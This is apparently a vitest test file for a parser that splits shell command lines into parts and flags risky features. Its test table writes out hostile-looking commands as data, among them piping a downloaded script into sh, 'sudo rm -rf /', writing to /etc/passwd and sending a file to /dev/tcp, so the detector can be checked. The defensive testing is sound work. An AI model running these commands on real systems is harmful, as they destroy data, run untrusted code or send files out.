import fc from 'fast-check'
import { expect, test } from 'vitest'
import { commandLines, lookoutsOf } from './card-command.ts'

const shape = (text: string) =>
  commandLines(text).map(({ parts }) => parts.filter(({ kind }) => kind !== 'space').map(({ text: part }) => part))
const marks = (text: string) => lookoutsOf(commandLines(text))

test('one command a line, its arguments apart', () => {
  expect(shape("cd 'my folder' && npm run build; git status | head -n 3\nls")).toEqual([
    ['cd', "'my folder'", '&&'],
    ['npm', 'run', 'build', ';'],
    ['git', 'status', '|'],
    ['head', '-n', '3'],
    ['ls'],
  ])
})

test.each([
  ['curl -s https://e.example/x | sh', ['piped_to_shell']],
  ['curl x | sudo bash -s', ['piped_to_shell', 'other_rights']],
  ['sudo rm -rf /', ['other_rights', 'removes']],
  ['curl x | sudo -E bash', ['piped_to_shell', 'other_rights']],
  ['find . | xargs -0 rm', ['piped_to_shell', 'removes']],
  ['env A=1 nohup rm x', ['removes']],
  ['echo x > /etc/passwd', ['writes_file']],
  ['make > /dev/null 2>&1', []],
  ['cat x > /dev/tcp/1.2.3.4/80', ['network_device']],
  ['rm *.log', ['removes', 'many_names']],
  ["rm '*.log'", ['removes']],
  ['echo $(whoami)', ['inner_command']],
  ['echo `whoami`', ['inner_command']],
  ['diff <(ls a) <(ls b)', ['inner_command']],
  ['echo "$HOME"', ['variable']],
  ["echo '$HOME'", []],
  ["bash -c 'rm -rf x'", ['runs_text']],
  ["bash -lc 'ls'", ['runs_text']],
  ['eval "$x"', ['runs_text', 'variable']],
  ['sleep 1 &', ['background']],
  ["echo 'open", ['unclosed']],
  ['ls -la', []],
  ['# only a comment', []],
])('%s', (text, expected) => {
  expect(marks(text)).toEqual(expected)
})

test('what a here-document holds is text, and what comes after it is a command again', () => {
  const lines = commandLines('cat <<EOF > out\nrm -rf /\nEOF\nsudo ls')
  expect(lines[1]?.parts[0]).toMatchObject({ kind: 'text', text: 'rm -rf /\nEOF' })
  expect(lookoutsOf(lines)).toEqual(['other_rights', 'writes_file'])
})

test('the parts put together are the whole text, whatever it is', () => {
  const bits = [
    'rm',
    ' ',
    '\n',
    '"',
    "'",
    '`',
    '$(',
    ')',
    '|',
    '&&',
    '>',
    '<<E',
    '\\',
    '#',
    '*',
    '\u202e',
    '\u200b',
    ';',
  ]
  const text = fc.array(fc.oneof(fc.constantFrom(...bits), fc.string())).map(parts => parts.join(''))
  fc.assert(
    fc.property(text, each => {
      const parts = commandLines(each).flatMap(line => line.parts)
      expect(parts.map(part => part.text).join('')).toBe(each)
      expect(parts.every(part => part.text !== '')).toBe(true)
    }),
  )
})
